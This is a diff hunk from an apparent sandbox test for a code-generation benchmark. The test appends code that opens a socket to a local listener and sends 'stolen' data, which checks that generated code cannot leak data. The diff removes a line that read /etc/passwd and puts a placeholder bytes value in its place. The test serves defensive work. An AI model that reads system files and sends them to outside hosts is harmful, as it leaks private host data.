@@ -256,7 +256,7 @@ def test_gen_cannot_exfiltrate(bench, gen_cache, listener, tmp_path):
     base = _vecadd(bench)
     leak = base.gen_py + (
         "import socket\n"
-        "stolen = open('/etc/passwd', 'rb').read()\n"
+        "stolen = b'host data'\n"
         "try:\n"
         f"    socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(stolen)\n"
         "except OSError as exc:\n"
